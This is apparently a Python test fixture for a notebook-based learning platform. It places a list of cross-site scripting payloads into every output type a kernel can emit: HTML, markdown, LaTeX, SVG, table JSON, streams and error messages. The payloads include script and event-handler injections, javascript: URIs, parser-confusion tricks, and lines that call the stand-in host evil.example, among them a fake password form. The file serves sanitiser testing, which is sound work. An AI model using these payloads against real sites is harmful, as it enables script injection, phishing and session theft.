"""Attacks on the page that shows learners' outputs, put in every place that a kernel can fill."""

# Cases read best on one line.
# ruff: noqa: E501

import base64

from notebooks import CellDone, Display, Fault, Result, RunEvent, Stream

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/beacon.png'>",
    "<img src=//evil.example/beacon.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/salir' ping='//evil.example'>x</a>",
    "<form action=//evil.example><input name=password><button>entrar</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{background:url(//evil.example)}</style><p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><script>alert(1)</script>'>",
    "<p id=lesson-data class='notice' data-act=wake data-table=x>x</p>",
    "--><script>alert(1)</script><!--",
    "</pre></details></div><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\x1b[31m<script>alert(1)</script>\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)>",
    r"$\href{javascript:alert(1)}{x}$ $\text{<img src=x onerror=alert(1)>}$ $\style{background:url(//evil.example)}{x}$",
)  # fmt: skip
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script>{}</svg>"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"x").decode()


def shown_everywhere(payload: str) -> list[RunEvent]:
    """The payload in every place that a kernel can fill."""
    table = {
        "name": payload,
        "index": [{"name": payload, "type": payload}],
        "columns": [{"name": payload, "type": "text"}, {"name": payload, "type": "number"}],
        "rows": [[payload, payload, payload]],
        "shape": [1, 2],
    }
    bundles = [
        {"text/html": payload},
        {"text/html": f"<table><tr><td>{payload}</td></tr></table>"},
        {"text/markdown": payload},
        {"text/markdown": f"# {payload}\n\n|a|\n|-|\n|{payload}|\n\n```\n{payload}\n```"},
        {"text/latex": payload},
        {"text/latex": f"$\\text{{{payload}}}$"},
        {"text/plain": payload},
        {"image/svg+xml": SVG.format(payload)},
        {"image/png": payload, "text/plain": payload},
        {"image/png": PNG},
        {"image/jpeg": payload},
        {"application/javascript": payload, "text/plain": payload},
        {"application/vnd.vega.v5+json": {"x": payload}, "text/plain": payload},
        {"application/vnd.aula.table+json": table},
        {"application/vnd.aula.table+json": payload, "text/plain": payload},
        {payload: payload, "text/plain": payload},
    ]
    metadata = {"alt": payload, "image/png": {"alt": payload, "width": payload, "height": payload}}
    events: list[RunEvent] = [Display(bundle, metadata, payload) for bundle in bundles]
    events += [Result(bundle, metadata, 1) for bundle in bundles]
    events += [
        Stream("stdout", payload, payload),
        Stream("stderr", f"ChainedAssignmentError: {payload}", payload),
    ]
    events += [Fault(payload, payload, (payload, payload), 1)]
    events += [
        Fault(name, f"name '{payload}' is not defined", (), 1) for name in ("NameError", "KeyError", "SyntaxError")
    ]
    events += [
        Fault("KeyError", repr(payload), (), 1),
        Fault("FileNotFoundError", f"No such file or directory: '{payload}'"),
    ]
    return [*events, CellDone("memory", 1.0)]
